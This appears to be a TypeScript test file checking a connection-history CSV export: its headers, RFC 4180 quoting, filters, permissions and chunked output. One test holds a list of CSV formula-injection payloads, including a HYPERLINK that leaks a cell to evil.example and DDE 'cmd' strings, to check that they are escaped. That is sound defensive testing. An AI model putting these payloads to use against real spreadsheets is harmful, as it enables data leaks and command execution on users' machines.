/** The connection history as CSV, through the public API, on both databases. */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { must, type TestPerson, type TestAccount } from '../../kit/server/account.ts';
import { databases } from '../../kit/server/database.ts';
import { startService, type TestService } from '../../kit/server/service.ts';
import { runSql } from '../../kit/server/raw-sql.ts';

/** Parses a table as RFC 4180 defines it, with other code than wrote it. */
function readTable(text: string): string[][] {
  const rows: string[][] = [];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  let row: string[] = [];
  while (cell.lastIndex < text.length) {
    const found = cell.exec(text) ?? assert.fail(`no cell at the end of ${JSON.stringify(row)}`);
    row.push(found[1]?.replaceAll('""', '"') ?? found[2]!);
    if (found[3] === ',') continue;
    rows.push(row);
    row = [];
  }
  return rows;
}

const geo = { ip: '192.0.2.1', country: 'DE', region: 'Berlin', city: 'Berlin' };

const hostile = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  "a;=cmd|' /C calc'!A0;b",
  'a,"b"',
  '“quotes” ✓ 日本',
  "'already",
  '<script>alert(1)</script>',
];

for (const { kind, skip } of databases)
  describe(`the history as CSV on ${kind}`, { skip }, () => {
    let service: TestService;
    before(async () => {
      service = await startService({ database: kind });
    });
    after(() => service[Symbol.asyncDispose]());

    const start = async (account: TestAccount, agentId: number, by = account.owner, userAgent = 'browser') =>
      must(service.server.store, 'sessions/start', {
        accountId: account.id,
        memberId: by.id,
        agentId,
        invitationId: null,
        login: by.email,
        userAgent,
        geo,
        start: service.server.store.now(),
      });
    const send = (person: TestPerson, query = '') =>
      service.testClient.send({
        path: `/v1/history/export${query}`,
        headers: { 'X-Api-Key': person.apiKey },
      });
    const tableOf = async (person: TestPerson, query = ''): Promise<Record<string, string>[]> => {
      const { http, text } = await send(person, query);
      assert.equal(http, 200, text);
      const [heads, ...rows] = readTable(text.replace(/^\ufeff/, ''));
      return rows.map((row) => Object.fromEntries(heads!.map((head, at) => [head, row[at]!])));
    };

    test('a connection is a row with everything that is known of it, in a file that spreadsheets open', async () => {
      const account = await service.account();
      const agent = await account.agent({ name: 'desk', os: 'win', groupId: await account.group('attic') });
      const { id } = await start(account, agent.id);
      const from = service.server.store.now();
      service.advance(75);
      await must(service.server.store, 'sessions/stop', { accountId: account.id, id, bytes: 1 });
      await must(service.server.store, 'sessions/note', { accountId: account.id, id, note: 'Fixed,\n"it".' });

      const { headers, bytes } = await send(account.owner);
      const [line, ...others] = await tableOf(account.owner);

      assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
      assert.equal(headers['content-type'], 'text/csv; charset=utf-8');
      assert.match(
        String(headers['content-disposition']),
        /^attachment; filename="connections-\d{4}-\d\d-\d\d\.csv"/,
      );
      const time = (at: number): string => new Date(at * 1_000).toISOString().replace('.000', '');
      assert.deepEqual(
        [line, others.length],
        [
          {
            id: String(id),
            start: time(from),
            stop: time(from + 75),
            seconds: '75',
            login: account.owner.email,
            ...geo,
            user_agent: 'browser',
            agent_id: String(agent.id),
            agent: 'desk',
            group: 'attic',
            agent_ip: '',
            os: 'win',
            reason: '',
            support_id: '',
            video_bytes: '',
            note: 'Fixed,\n"it".',
            bytes: '1',
            ended_by: 'operator',
          },
          0,
        ],
      );
    });

    test('text of others is never a formula, and is otherwise unchanged', async () => {
      const account = await service.account();
      for (const name of hostile) {
        const { id } = await account.agent({ name });
        await start(account, id, account.owner, name);
      }

      const lines = (await tableOf(account.owner)).toReversed();

      assert.equal(lines.length, hostile.length);
      for (const [at, line] of lines.entries())
        for (const text of [line['agent']!, line['user_agent']!]) {
          assert.doesNotMatch(text, /(^|;)[=+\-@\t\r]/);
          const plain = text.replace(/(^|;)'(?=[=+\-@])/g, '$1');
          assert.equal(plain, hostile[at]);
        }
    });

    test('the table has exactly what the list has, with the same filters and permissions', async () => {
      const account = await service.account();
      const [desk, lamp] = [await account.agent(), await account.agent()];
      const person = await account.member([
        { type: 'agent', permissions: ['agent_sessions'], agentId: desk.id },
      ]);
      await start(account, desk.id);
      await start(account, lamp.id);
      await start(account, desk.id, person);

      const queries = ['', `?agent_id=${desk.id}`, `?email=${person.email}`, '?video=true', '?date_to=1'];
      for (const who of [account.owner, person])
        for (const query of queries) {
          const list = await service.testClient.send({
            path: `/v1/history/list${query}`,
            headers: { 'X-Api-Key': who.apiKey },
          });
          const ids = (JSON.parse(list.text).data as { id: number }[]).map(({ id }) => String(id));
          assert.deepEqual(
            (await tableOf(who, query)).map((line) => line['id']),
            ids,
            query,
          );
        }
      assert.equal((await tableOf(person)).length, 2);
      assert.equal((await tableOf(account.owner, `?email=${person.email.toUpperCase()}`)).length, 1);
      const refused = await send(account.owner, '?date_from=2&date_to=1');
      assert.deepEqual([refused.http, JSON.parse(refused.text).error.field], [400, 'date_to']);
    });

    test('five thousand connections are sent in parts, each exactly once', async () => {
      const account = await service.account();
      const { id: agentId } = await account.agent();
      const now = service.server.store.now();
      const { id: first } = await start(account, agentId);
      await runSql(
        service,
        `insert into session (account_id, agent_id, member_id, login, start_time, alive_time, client_ip, client_country,
           client_region, client_city, user_agent, bytes, video_size, begun)
         with recursive n (i) as (select 1 union all select i + 1 from n where i < 4999)
         select ${account.id}, ${agentId}, ${account.owner.id}, 'x', ${now} - i / 7, ${now}, '', '', '', '', '', 0, 0, 1 from n`,
      );

      const { http, headers, text } = await send(account.owner);
      const rows = readTable(text.replace(/^\ufeff/, '')).slice(1);

      assert.deepEqual([http, headers['transfer-encoding'], rows.length], [200, 'chunked', 5_000]);
      assert.equal(new Set(rows.map(([id]) => id)).size, 5_000);
      assert.ok(rows.some(([id]) => Number(id) === first));
      assert.deepEqual(
        rows.map((row) => row[1]!),
        rows
          .map((row) => row[1]!)
          .toSorted()
          .toReversed(),
      );
    });
  });
